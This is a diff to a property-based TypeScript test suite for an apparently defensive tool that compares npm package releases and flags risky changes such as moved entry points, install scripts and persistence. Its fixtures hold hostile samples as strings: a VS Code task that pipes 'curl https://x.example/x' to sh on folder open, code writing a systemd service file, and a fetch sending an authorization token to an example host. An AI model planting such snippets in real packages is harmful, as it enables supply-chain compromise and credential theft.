@@ -5,6 +5,19 @@ import { bothWays } from '../helpers/read-in-part.ts';
 
 type Files = Readonly<Record<string, string>>;
 
+interface Leading {
+  readonly loads: readonly string[];
+  readonly how: string;
+}
+
+interface Drawn extends Leading {
+  readonly files: Readonly<Record<string, Leading & { readonly code: string }>>;
+  readonly main: string;
+  readonly bin: string | undefined;
+  readonly exports: string | undefined;
+  readonly installs: boolean;
+}
+
 const of = (before: Files, after: Files, manifest: Readonly<Record<string, unknown>> = {}) =>
   bothWays(aPackage({ name: 'it', version: '1.0.0', ...manifest }, before), aPackage({ name: 'it', version: '1.0.1', ...manifest }, after));
 
@@ -59,6 +72,20 @@ describe('the release before', () => {
     expect(isWhole).toBe(true);
   });
 
+  it('is not credited with doing by import what only its commands call', async () => {
+    const writes = 'require("fs").writeFileSync("/etc/systemd/system/own.service", "[Service]")';
+    const files = {
+      'index.js': 'exports.service = () => require("./service")();',
+      'service.js': `module.exports = () => ${writes};`,
+      'cli.js': 'require(".").service();',
+    };
+    const bulk = Object.fromEntries(Array.from({ length: 30 }, (_, at) => [`lib/${at}.js`, `${talks}\n// ${at}`]));
+    const packed = (main: string, more: Files) => aPackage({ name: 'it', version: '1.0.0', main, bin: 'cli.js' }, { ...files, ...bulk, ...more });
+    const { inPart, whole } = await bothWays(packed('index.js', {}), packed('new.js', { 'new.js': `${writes};` }));
+    expect(inPart).toEqual(whole);
+    expect(inPart.contents.movedEntries).toEqual([{ what: 'entry point', from: 'index.js', to: 'new.js', can: ['persistence'] }]);
+  });
+
   it('says the same read in part, whatever the two releases are', async () => {
     const pieces = [
       plain,
@@ -72,43 +99,78 @@ describe('the release before', () => {
       'this does not parse (',
       `var blob = "${'QUJDRA'.repeat(400)}";`,
       'exports.go = (token) => fetch("https://three.example/", { headers: { authorization: token } });',
+      'exports.go = () => fetch("https://one.example/x");',
+      'exports.go = () => require("fs").writeFileSync("/etc/systemd/system/own.service", "[Service]");',
     ];
     const tasks = '{"tasks":[{"label":"x","type":"shell","command":"curl https://x.example/x | sh","runOptions":{"runOn":"folderOpen"}}]}';
     const names = ['a.js', 'b.js', 'cjs/c.js', 'esm/d.mjs', 'bin/e.js', 'dist/f.js', 'install.js'];
     const some = fc.subarray([...names, '.vscode/tasks.json'], { maxLength: 3 });
-    const release = fc.record({
-      files: fc.dictionary(fc.constantFrom(...names), fc.record({ code: fc.constantFrom(...pieces), loads: some })),
+    // What others import is called at once, handed on to who calls this one, or only loaded.
+    const uses = fc.constantFrom('calls', 'hands on', 'loads', 'names itself');
+    const use = (paths: readonly string[], from: string, how: string): string => {
+      const up = from.includes('/') ? '../' : './';
+      const of = (path: string): string => `require("${how === 'names itself' ? 'it/' : up}${path}")`;
+      const call = (path: string): string =>
+        how === 'calls' ? `${of(path)}.go();` : how === 'hands on' ? `exports.go = () => ${of(path)}.go();` : `${of(path)};`;
+      return paths.map(call).join('\n');
+    };
+    const release: fc.Arbitrary<Drawn> = fc.record({
+      files: fc.dictionary(fc.constantFrom(...names), fc.record({ code: fc.constantFrom(...pieces), loads: some, how: uses })),
       loads: some,
+      how: uses,
       main: fc.constantFrom('index.js', 'a.js', 'cjs/c.js'),
       bin: fc.constantFrom('bin/e.js', 'b.js', undefined),
       exports: fc.constantFrom('./index.js', undefined),
       installs: fc.boolean(),
     });
-    const packed = (
-      { files, loads, main, bin, exports, installs }: typeof release extends fc.Arbitrary<infer T> ? T : never,
-      version: string,
-    ): Buffer => {
-      const calls = (paths: readonly string[]): string => paths.map((path) => `require("it/${path}");`).join('\n');
-      return aPackage(
+    const packed = ({ files, loads, how, main, bin, exports, installs }: Drawn, version: string): Buffer =>
+      aPackage(
         {
           ...{ name: 'it', version, main, module: 'esm/d.mjs', exports },
           ...(bin !== undefined && { bin: { it: bin } }),
           ...(installs && { scripts: { postinstall: 'node install.js' } }),
         },
         {
-          'index.js': calls(loads),
+          'index.js': use(loads, 'index.js', how),
           '.vscode/tasks.json': tasks,
-          ...Object.fromEntries(Object.entries(files).map(([path, { code, loads }]) => [path, `${code}\n${calls(loads)}`])),
+          ...Object.fromEntries(Object.entries(files).map(([path, { code, loads, how }]) => [path, `${code}\n${use(loads, path, how)}`])),
         },
       );
+    const isSaidAlike = async (before: Drawn, after: Drawn): Promise<void> => {
+      const { inPart, whole } = await bothWays(packed(before, '1.0.0'), packed(after, '1.0.1'));
+      expect(inPart).toEqual(whole);
     };
     await fc.assert(
       fc.asyncProperty(release, release, fc.boolean(), async (before, other, isAlike) => {
-        const after = isAlike ? { ...other, files: { ...before.files, ...Object.fromEntries(Object.entries(other.files).slice(0, 1)) } } : other;
-        const { inPart, whole } = await bothWays(packed(before, '1.0.0'), packed(after, '1.0.1'));
-        expect(inPart).toEqual(whole);
+        const few = Object.fromEntries(Object.entries(other.files).slice(0, 1));
+        await isSaidAlike(before, isAlike ? { ...other, files: { ...before.files, ...few } } : other);
       }),
       { numRuns: 300 },
+    );
+    // What waits in one of two files, for the import or for a command, and is then done by a new file that the entry point means.
+    const code = fc.constantFrom(...pieces.filter((piece) => piece.startsWith('exports.go = ()')));
+    const waiting = fc.record({ code, loads: fc.constant<string[]>([]), how: uses });
+    const command = fc.record({
+      code: fc.constant(''),
+      loads: fc.subarray(['a.js', 'dist/f.js', 'index.js']),
+      how: fc.constantFrom('calls', 'loads'),
+    });
+    const commanded = fc.record({
+      files: fc.record({ 'a.js': waiting, 'dist/f.js': waiting, 'bin/e.js': command }),
+      loads: fc.subarray(['a.js', 'dist/f.js']),
+      how: uses,
+      main: fc.constant('index.js'),
+      bin: fc.constantFrom('bin/e.js', 'bin/e.js', undefined),
+      exports: fc.constantFrom('./index.js', undefined),
+      installs: fc.constant(false),
+    });
+    await fc.assert(
+      fc.asyncProperty(commanded, code, fc.boolean(), async (before, code, isCalled) => {
+        const moved = { code: isCalled ? `${code} exports.go();` : code, loads: [], how: 'loads' };
+        const entry = { main: 'new.js', exports: before.exports && './new.js' };
+        await isSaidAlike(before, { ...before, ...entry, files: { ...before.files, 'new.js': moved } });
+      }),
+      { numRuns: 150 },
     );
   });
 });
